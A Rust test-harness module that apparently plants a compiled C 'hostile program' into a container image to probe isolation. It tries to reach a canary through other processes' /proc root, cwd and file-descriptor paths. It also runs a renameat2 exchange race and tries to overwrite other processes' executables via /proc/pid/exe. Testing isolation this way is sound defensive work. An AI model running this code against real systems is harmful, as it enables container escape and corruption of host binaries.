//! A hostile program, compiled for the image: what a shell is too slow or too blunt for.

use std::path::Path;
use std::process::Command;

const SOURCE: &str = r##"
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

/* Exchanges two names for ever. */
static int swap(const char *one, const char *two) {
    for (;;)
        if (syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, two, 2)) { perror("renameat2"); return 1; }
}

/* Looks at every other process: opens its program to keep it, and tries to write to what was kept, also after the
   process has ended; looks for the canary through its root and working folder; lists its descriptors. */
static int hunt(const char *canary) {
    int kept[64], n = 0; long seen = 0, wrote = 0, out = 0;
    struct stat own, st; char path[4200], link[4096];
    stat("/proc/self/exe", &own);
    printf("ready\n"); fflush(stdout);
    while (access("/stop", F_OK)) {
        DIR *proc = opendir("/proc"); struct dirent *e;
        while ((e = readdir(proc))) {
            int pid = atoi(e->d_name);
            if (pid < 1 || pid == getpid()) continue;
            const char *ways[] = { "root", "cwd", "cwd/..", "task/../root" };
            for (int i = 0; i < 4; i++) {
                snprintf(path, sizeof path, "/proc/%d/%s%s", pid, ways[i], canary);
                if (!access(path, F_OK)) { printf("reached %s\n", path); out++; }
            }
            for (int fd = 0; fd < 40; fd++) {
                snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
                if (!stat(path, &st) && S_ISDIR(st.st_mode)) {
                    snprintf(path, sizeof path, "/proc/%d/fd/%d%s", pid, fd, canary);
                    if (!access(path, F_OK)) { printf("reached %s\n", path); out++; }
                }
            }
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            int fd = open(path, O_RDONLY | O_CLOEXEC);
            if (fd < 0) continue;
            fstat(fd, &st);
            snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
            ssize_t size = readlink(path, link, sizeof link - 1);
            link[size < 0 ? 0 : size] = 0;
            /* What containers with the same process ids run is not the host's: who shares them has all rights there. */
            if (st.st_dev == own.st_dev || n == 64 || !strcmp(link, "/bin/busybox")) { close(fd); continue; }
            seen++; kept[n++] = fd;
        }
        closedir(proc);
        for (int i = 0; i < n; i++) {
            snprintf(path, sizeof path, "/proc/self/fd/%d", kept[i]);
            int fd = open(path, O_WRONLY);
            if (fd < 0) continue;
            if (write(fd, "#!/bin/sh\n", 10) > 0 && !wrote++) {
                ssize_t size = readlink(path, link, sizeof link - 1);
                printf("wrote to %.*s\n", (int)(size < 0 ? 0 : size), link);
            }
            close(fd);
        }
    }
    printf("seen %ld wrote %ld out %ld\n", seen, wrote, out);
    return 0;
}

int main(int argc, char **argv) {
    if (argc == 4 && !strcmp(argv[1], "swap")) return swap(argv[2], argv[3]);
    if (argc == 3 && !strcmp(argv[1], "hunt")) return hunt(argv[2]);
    return 2;
}
"##;

/// Puts it at `/bin/tool` of a root folder. False, and aloud, where there is no compiler.
pub fn plant(root: &Path) -> bool {
    let source = root.join("tool.c");
    std::fs::write(&source, SOURCE).unwrap();
    let done = Command::new("cc").args(["-static", "-O1", "-w", "-o"]).arg(root.join("bin/tool")).arg(&source).output();
    match done {
        Ok(output) if output.status.success() => true,
        Ok(output) => panic!("cc: {}", String::from_utf8_lossy(&output.stderr)),
        Err(error) => {
            eprintln!("skipped: no C compiler: {error}");
            false
        }
    }
}
